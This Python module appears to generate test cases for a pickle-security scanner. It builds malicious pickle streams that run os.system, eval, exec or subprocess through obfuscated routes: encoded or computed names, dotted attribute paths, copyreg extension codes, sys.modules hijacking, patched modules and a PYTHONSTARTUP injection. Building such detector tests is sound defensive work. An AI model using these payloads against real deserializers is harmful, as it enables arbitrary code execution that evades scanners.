"""Names that are reached, computed or registered: the harm's own name stands nowhere in the stream, or elsewhere than where it is taken."""

import base64
import zlib

from . import asm
from .asm import POP, Raw, call, glob, push, put, text, tuple_of
from .gadgets import CMD, CODE, FILE, SYSTEM


MODULES = {
    "import": call("builtins:__import__", "os"),
    "import_module": call("importlib:import_module", "posix"),
    "importlib-import": call("importlib:__import__", "os"),
    "locate": call("pydoc:locate", "os"),
    "safeimport": call("pydoc:safeimport", "posix"),
    "resolve_name": call("pkgutil:resolve_name", "os"),
    "resolve_name-colon": call("pkgutil:resolve_name", "shutil:os"),
    "subimport": call("cloudpickle.cloudpickle:subimport", "os"),
    "dill-import": call("dill._dill:_import_module", "os"),
    "gcd_import": call("importlib._bootstrap:_gcd_import", "os"),
    "sys-modules": call("operator:getitem", glob("sys:modules"), "posix"),
    "posixpath-os": glob("posixpath:os"),
    "glob-os": glob("glob:os"),
}


def attributes():
    """A module, an attribute of it, a call."""
    for name, module in MODULES.items():
        yield f"getattr-{name}", call(call("builtins:getattr", module, "system"), CMD), "os.system"
        yield f"attrgetter-{name}", call(call(call("operator:attrgetter", "system"), module), CMD), "os.system"
        yield f"_attrgetter-{name}", call(call(call("_operator:attrgetter", "system"), module), CMD), "os.system"
        yield f"methodcaller-{name}", call(call("operator:methodcaller", "system", CMD), module), "os.system"
    resolve = call("pkgutil:resolve_name", "os:system")
    yield "resolve_name-function", call(resolve, CMD), "os.system"
    yield "locate-function", call(call("pydoc:locate", "os.system"), CMD), "os.system"
    yield "warnings-getcategory", call(call("warnings:_getcategory", "os.system"), CMD), "?os.system"
    yield "getattr-popen", call(call("builtins:getattr", call("builtins:__import__", "os"), "popen"), CMD), "os.popen"
    yield "vars-getitem", call(call("operator:getitem", call("builtins:vars", MODULES["import"]), "system"), CMD), "os.system"
    yield "attrgetter-dotted", call(call(call("operator:attrgetter", "path.os.system"), MODULES["import"]), CMD), "os.system"
    entry = call("importlib.metadata:EntryPoint", "n", "os:system", "g")
    yield "entry-point", call(call(call("operator:methodcaller", "load"), entry), CMD), "os.system"
    yield "globals-builtins", call(
        call("operator:getitem", call("operator:getitem", call("builtins:vars", MODULES["import"]), "__builtins__"), "eval"), CODE
    ), "builtins.eval"
    library = call("ctypes:CDLL", None)
    yield "ctypes-system", call(call("builtins:getattr", library, "system"), CMD.encode()), "ctypes.CDLL"


def _computed(name, module, function):
    return name, call(Raw(module + function + asm.STACK_GLOBAL), CMD), "os.system"


def names_computed():
    """The names that STACK_GLOBAL takes are results of calls, so that no string in the file is one."""
    yield _computed("concat", call("operator:concat", "o", "s"), call("operator:concat", "sys", "tem"))
    yield _computed("add", call("operator:add", "o", "s"), text("system"))
    yield _computed("lower", call(call("operator:methodcaller", "lower"), "OS"), call(call("operator:methodcaller", "lower"), "SYSTEM"))
    yield _computed("replace", call(call("operator:methodcaller", "replace", "x", ""), "oxs"), text("system"))
    yield _computed("join", call(call("operator:methodcaller", "join", ["p", "o", "s", "i", "x"]), ""), text("system"))
    yield _computed(
        "itemgetter", call(call("operator:itemgetter", 1), ["collections", "os"]), call(call("operator:itemgetter", 0), ["system"])
    )
    yield _computed("getitem-slice", call("operator:getitem", "so", call("builtins:slice", None, None, -1)), text("system"))
    yield _computed("str-of-bytes", call("builtins:str", b"os", "ascii"), call("builtins:str", b"system", "utf-8"))
    yield _computed("rot13", call("codecs:decode", "bf", "rot13"), call("codecs:decode", "flfgrz", "rot13"))
    yield _computed("hex", call("builtins:str", call("codecs:decode", b"6f73", "hex"), "ascii"), text("system"))
    for codec in ("utf-7", "utf-16", "utf-32", "latin1", "cp037", "unicode_escape", "raw_unicode_escape", "idna", "punycode"):
        encoded = [s.encode(codec) for s in ("os", "system")]
        yield _computed(f"codecs-{codec}", call("_codecs:decode", encoded[0], codec), call("_codecs:decode", encoded[1], codec))
    yield _computed("utf-7-shifted", call("_codecs:decode", b"+AG8Acw-", "utf-7"), text("system"))
    yield _computed("utf-8-bytes", call("operator:getitem", call("_codecs:utf_8_decode", b"os"), 0), text("system"))
    yield _computed("chr", call("operator:add", call("builtins:chr", 111), call("builtins:chr", 115)), text("system"))
    yield _computed("base64", call("builtins:str", call("base64:b64decode", base64.b64encode(b"os")), "ascii"), text("system"))
    yield _computed("zlib", call("builtins:str", call("zlib:decompress", zlib.compress(b"os")), "ascii"), text("system"))
    yield _computed("fspath", call("posix:fspath", "os"), text("system"))
    yield _computed("deque-pop", call(call("operator:methodcaller", "pop"), call("collections:deque", ["system", "os"])), text("system"))
    yield _computed("chainmap", call("operator:getitem", call("collections:ChainMap", {"a": "os"}), "a"), text("system"))
    yield _computed("uuid-hex", call(call("operator:attrgetter", "name"), call("pathlib:PurePosixPath", "/x/os")), text("system"))
    yield _computed(
        "namespace",
        call(call("operator:attrgetter", "a"), Raw(call("types:SimpleNamespace") + push({"a": "os"}) + asm.BUILD)),
        text("system"),
    )


def dotted():
    """From protocol 4 on an attribute may have dots: the module named is a harmless one that has imported another."""
    for module in (
        "shutil",
        "pathlib",
        "logging",
        "glob",
        "inspect",
        "gzip",
        "zipfile",
        "tarfile",
        "uuid",
        "platform",
        "ctypes.util",
        "fileinput",
        "linecache",
        "webbrowser",
        "socketserver",
        "mimetypes",
        "asyncio.unix_events",
        "torch",
        "joblib.memory",
        "sklearn.datasets._base",
        "pandas.io.common",
        "scipy.datasets._utils",
        "multiprocessing.util",
        "dill._dill",
    ):
        yield f"{module}-os-system", call(glob(f"{module}:os.system", "STACK_GLOBAL"), CMD), "os.system"
    for module, path in (
        ("logging", "sys.modules.get"),
        ("collections", "_sys.modules.get"),
        ("random", "_os.system"),
        ("tempfile", "_os.system"),
    ):
        if path.endswith("system"):
            yield f"{module}-_os", call(glob(f"{module}:{path}", "STACK_GLOBAL"), CMD), "os.system"
        else:
            found = call(glob(f"{module}:{path}", "STACK_GLOBAL"), "posix")
            yield f"{module}-modules", call(call("operator:methodcaller", "system", CMD), found), "os.system"
    yield "path-os", call(glob("os:path.os.path.os.system", "STACK_GLOBAL"), CMD), "os.system"
    yield "GLOBAL-dotted", call(glob("posixpath:os.system"), CMD), "os.system"
    yield "webbrowser-subprocess", call(glob("webbrowser:subprocess.getoutput", "STACK_GLOBAL"), CMD), "subprocess.getoutput"
    yield "doctest-pdb", call(glob("doctest:pdb.run", "STACK_GLOBAL"), CODE), "pdb.run"
    yield "builtins-self", call(glob("builtins:print.__self__.eval", "STACK_GLOBAL"), CODE), "builtins.eval"
    yield "len-self", call(glob("builtins:len.__self__.exec", "STACK_GLOBAL"), CODE), "builtins.exec"
    subclasses = call(glob("builtins:object.__subclasses__", "STACK_GLOBAL"))
    yield "subclasses", call("operator:getitem", subclasses, 0), "?builtins.object.__subclasses__"
    globals_ = glob("collections:namedtuple.__globals__", "STACK_GLOBAL")
    yield "function-globals", call(
        call("operator:getitem", call("operator:getitem", globals_, "__builtins__"), "eval"), CODE
    ), "builtins.eval"
    yield "function-builtins", call(call("operator:getitem", glob("copy:copy.__builtins__", "STACK_GLOBAL"), "eval"), CODE), "builtins.eval"
    yield "loader", call(glob("os:__loader__.__class__.__init__.__globals__.get", "STACK_GLOBAL"), "x"), "?os"
    yield "builtins-get", call(call(glob("copy:copy.__builtins__.get", "STACK_GLOBAL"), "eval"), CODE), "builtins.eval"
    yield "globals-get", call(
        call("operator:methodcaller", "system", CMD), call(glob("shutil:copyfile.__globals__.get", "STACK_GLOBAL"), "os")
    ), "os.system"


def registry():
    """The extension registry: the stream registers a code and then uses it."""
    for opcode, code in ((b"\x82\x07", 7), (b"\x83\x39\x05", 1337), (b"\x84\x40\xe2\x01\x00", 123456)):
        registered = call("copyreg:add_extension", "os", "system", code)
        yield f"EXT-{code}", Raw(registered + POP + call(Raw(opcode), CMD)), "os.system"
        clear = Raw(call("copyreg:clear_extension_cache") + POP)
        yield f"EXT-cache-{code}", Raw(registered + POP + clear + call(Raw(opcode), CMD)), "os.system"
    by_item = Raw(glob("copyreg:_inverted_registry") + push(9) + tuple_of("os", "system") + asm.SETITEM + POP + call(Raw(b"\x82\x09"), CMD))
    yield "EXT-inverted", by_item, "os.system"
    cached = Raw(
        glob("copyreg:_extension_cache")
        + push(11)
        + SYSTEM
        + asm.SETITEM
        + POP
        + glob("copyreg:_inverted_registry")
        + push(11)
        + tuple_of("a", "b")
        + asm.SETITEM
        + POP
        + call(Raw(b"\x82\x0b"), CMD)
    )
    yield "EXT-extension-cache", cached, "posix.system"


def modules():
    """sys.modules changed by the stream, so that a harmless name imports something else; protocols below 4, where names have no dots."""
    override = Raw(glob("sys:modules") + text("sys") + glob("sys:modules") + asm.SETITEM + POP)
    yield "sys-is-modules", Raw(override + call(call("operator:methodcaller", "system", CMD), call(glob("sys:get"), "os"))), "os.system"
    yield "sys-is-os", Raw(
        glob("sys:modules")
        + put(8)
        + POP
        + override
        + call(glob("sys:get"), "os")
        + put(9)
        + POP
        + asm.get(8)
        + text("sys")
        + asm.get(9)
        + asm.SETITEM
        + POP
        + call(glob("sys:system"), CMD)
    ), "os.system"
    alias = Raw(glob("sys:modules") + text("harmless") + call(glob("operator:getitem"), glob("sys:modules"), "posix") + asm.SETITEM + POP)
    yield "alias", Raw(alias + call(glob("harmless:system"), CMD)), "posix.system"
    shadow = Raw(
        glob("sys:modules") + text("collections") + call(glob("operator:getitem"), glob("sys:modules"), "posix") + asm.SETITEM + POP
    )
    yield "shadow-collections", Raw(shadow + call(glob("collections:system"), CMD)), "posix.system"
    patch = Raw(
        call("builtins:__import__", "math") + tuple_of(None, Raw(asm.EMPTY_DICT + text("sqrt") + SYSTEM + asm.SETITEM)) + asm.BUILD + POP
    )
    yield "patched-math", Raw(patch + call(glob("math:sqrt"), CMD)), "posix.system"
    state = Raw(call("builtins:__import__", "math") + asm.EMPTY_DICT + text("floor") + SYSTEM + asm.SETITEM + asm.BUILD + POP)
    yield "module-state", Raw(state + call(glob("math:floor"), CMD)), "posix.system"
    yield "setattr", Raw(
        call("builtins:setattr", call("builtins:__import__", "math"), "ceil", SYSTEM) + POP + call(glob("math:ceil"), CMD)
    ), "posix.system"
    path = Raw(glob("sys:path") + text("/nonexistent") + asm.APPEND)
    yield "path", path, "?sys.path"
    environ = Raw(glob("os:environ") + text("PYTHONSTARTUP") + text(FILE) + asm.SETITEM)
    yield "environ", environ, "os.environ"
